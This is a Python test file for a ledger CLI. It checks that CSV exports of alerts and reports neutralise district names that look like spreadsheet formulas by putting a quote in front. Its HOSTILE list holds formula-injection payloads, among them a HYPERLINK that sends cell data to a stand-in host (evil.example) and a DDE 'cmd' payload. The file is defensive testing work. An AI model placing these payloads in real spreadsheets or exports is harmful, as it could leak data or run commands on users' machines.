"""Every CSV the ledger's commands write is safe to open in a spreadsheet (CONTRACT.md §2,
v1.2): a district that is a formula (accepted: it is a printable name) reaches ``alerts list``,
``report daily`` and ``report round`` as text, with a quote in front, never as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from helpers import T0, at, population, round_, to_line, travel

from closedloop.schemas.cells import FORMULA_STARTS
from closedloop.streams.cli import main

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A2,"open")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
           "-1+2")
END = at(T0, days=2)


def _csv(capsys: pytest.CaptureFixture[str], argv: list[str]) -> list[list[str]]:
    capsys.readouterr()
    assert main([*argv, "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("\ufeff")  # UTF-8 with a byte order mark: Excel reads it so
    return list(csv.reader(io.StringIO(out[1:])))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_csv_cell_of_the_ledger_commands_begins_a_formula(
    tmp_path: Path, ledger_url: str, capsys: pytest.CaptureFixture[str],
) -> None:
    events = []
    for number, district in enumerate(HOSTILE):
        events.append(travel(f"person-{number:04d}", T0, district=district))  # never located
        events.append(population(f"person-r{number:03d}", at(T0, days=-1), district=district))
    events.append(round_("round-1", at(T0, hours=-1), at(T0, hours=1), at(T0, hours=3),
                         list(HOSTILE)))
    city = tmp_path / "city.jsonl"
    city.write_bytes(b"".join(to_line(e) + b"\n" for e in events))
    assert main(["replay", str(city), "--until", END, "--received-at", END, "--quiet",
                 "--alerts", str(tmp_path / "alerts.jsonl"), "--ledger", ledger_url]) == 0
    tables = {
        "alerts list": _csv(capsys, ["alerts", "list", "--url", ledger_url]),
        "catch-up list": _csv(capsys, ["alerts", "list", "--round", "round-1", "--url",
                                       ledger_url]),
        "report daily": _csv(capsys, ["report", "daily", "--date", T0[:10], "--url",
                                      ledger_url]),
        "report round": _csv(capsys, ["report", "round", "round-1", "--stage", "close",
                                      "--url", ledger_url]),
    }
    for name, rows in tables.items():
        districts = [row[rows[0].index("district")] for row in rows[1:]]
        assert sorted(districts) == sorted(
            "'" + d for d in HOSTILE for _ in range(districts.count("'" + d))), name
        assert {d[1:] for d in districts} == set(HOSTILE), name
        for row in rows:
            for cell in row:
                assert not cell or cell[0] not in FORMULA_STARTS or _number(cell), (name, cell)
